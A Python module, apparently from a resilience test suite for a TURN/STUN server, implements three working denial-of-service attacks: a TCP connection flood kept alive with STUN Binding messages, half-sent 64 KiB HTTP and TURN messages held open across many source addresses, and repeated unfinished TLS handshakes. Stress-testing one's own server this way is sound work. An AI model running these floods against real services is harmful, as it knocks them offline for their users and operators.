# SPDX-License-Identifier: Apache-2.0
"""Attacks with connections: many that live, half-sent messages on many, and TLS handshakes that nobody finishes."""
import contextlib
import os
import resource
import select
import socket
import ssl
import struct
import time

from place import HTTP, SERVER, STRANGER, TURN, TURN_TLS, strangers
from stun_client import BINDING, message

DESCRIPTORS = 60_000
MESSAGE_BYTES_MAX = 65536  # the longest of each protocol


def raise_descriptor_limit():
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    with contextlib.suppress(ValueError, PermissionError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (DESCRIPTORS, max(most, DESCRIPTORS)))
        return DESCRIPTORS
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    return most


def connection(source, port, greeting=b"", *, blocks=False):
    """A connection on its way, or None where the system has no more."""
    one = socket.socket()
    one.setblocking(False)
    try:
        one.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        one.bind((source, 0))
        one.connect_ex((SERVER, port))
        if blocks:
            one.settimeout(2)
        if greeting:
            one.sendall(greeting)
        return one
    except OSError:
        one.close()
        return None


class Connections:
    """As many as one address gets, each kept alive by a Binding now and then."""

    def __init__(self, source, most):
        self.source, self.most = source, most
        self.epoll, self.all, self.held, self.closed, self.largest = select.epoll(), {}, set(), 0, 0

    def open_some(self, count):
        for _ in range(min(count, self.most - len(self.all))):
            one = connection(self.source, TURN)
            if one is None:
                return
            self.all[one.fileno()] = one
            self.epoll.register(one, select.EPOLLIN | select.EPOLLOUT | select.EPOLLET)

    def take_events(self, seconds):
        for number, events in self.epoll.poll(seconds, 4000):
            one = self.all.get(number)
            if one and not self.is_alive(one, events):
                self.closed += 1
                del self.all[number]
                self.held.discard(number)
                one.close()
        self.largest = max(self.largest, len(self.held))

    def is_alive(self, one, events):
        try:
            if events & (select.EPOLLHUP | select.EPOLLERR):
                return False
            if events & select.EPOLLIN:
                while more := one.recv(4096):
                    self.held.add(one.fileno())
                return more != b""
            if one.fileno() not in self.held:
                one.send(binding())
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True

    def keep_alive(self):
        for one in list(self.all.values()):
            with contextlib.suppress(OSError):
                one.send(binding())


def binding():
    return message(BINDING, (), os.urandom(12))


def connections(target):
    """One address opens as many TCP connections as it can and keeps each alive."""
    flood = Connections(STRANGER, raise_descriptor_limit() - 100)
    kept_alive = time.monotonic()
    while not target.is_over():
        flood.open_some(1000)
        flood.take_events(0)
        if time.monotonic() - kept_alive > 3:
            flood.keep_alive()
            kept_alive = time.monotonic()
    return f"{flood.largest} connections with an answer at once, {flood.closed} closed by the server"


HALF_SENT = {
    "HTTP body": (HTTP, f"POST /ws HTTP/1.1\r\nHost: {SERVER}\r\nContent-Length: {MESSAGE_BYTES_MAX}\r\n\r\n".encode()),
    "TURN frame": (TURN, struct.pack("!HHI", 0x0003, MESSAGE_BYTES_MAX - 20 - 4, 0x2112A442) + bytes(12)),
}  # fmt: skip


def memory(target):
    """Messages of 64 KiB that lack their last octets, on many connections of 64 addresses."""
    most = raise_descriptor_limit() - 100
    sources, held, refused, sent = strangers(64), [], 0, 0
    pending = {}
    while not target.is_over():
        while len(pending) < 200 and len(held) + len(pending) < most:
            number = len(held) + len(pending) + refused
            port, head = list(HALF_SENT.values())[number % 2]
            one = connection(sources[number // 2 % len(sources)], port)
            if one is None:
                break
            pending[one] = head + b"x" * (MESSAGE_BYTES_MAX - 1000)
        before = len(held)
        for one in list(pending):
            try:
                done = one.send(pending[one])
                sent += done
                pending[one] = pending[one][done:]
            except BlockingIOError:
                continue
            except OSError:
                pending.pop(one)
                one.close()
                refused += 1
                continue
            if not pending[one]:
                pending.pop(one)
                held.append(one)
        if len(held) == before:
            time.sleep(0.005)
    alive = sum(1 for one in [*held, *pending] if is_open(one))
    return f"{alive} connections with half-sent messages at the end ({sent / 2**20:.0f} MiB sent)"


def is_open(one):
    try:
        return one.recv(1, socket.MSG_PEEK) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def client_hello():
    """The first flight of a TLS client."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing).do_handshake()
    return outgoing.read()


def tls(target):
    """The same ClientHello again and again: the server makes keys and signs, the stranger leaves with its answer."""
    hello, epoll, under_way, answered, refused = client_hello(), select.epoll(), {}, 0, 0
    while not target.is_over():
        while len(under_way) < 64:
            one = connection(STRANGER, TURN_TLS)
            if one is None:
                break
            one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            under_way[one.fileno()] = one
            epoll.register(one, select.EPOLLIN | select.EPOLLOUT | select.EPOLLET)
        for number, events in epoll.poll(0.1):
            one, answer = under_way[number], b""
            with contextlib.suppress(OSError):
                if events & select.EPOLLIN:
                    answer = one.recv(65536)
                elif not events & (select.EPOLLHUP | select.EPOLLERR):
                    one.send(hello)
                    continue
            answered, refused = answered + bool(answer), refused + (not answer)
            del under_way[number]
            one.close()
    return f"{answered} ClientHellos answered, {refused} refused"
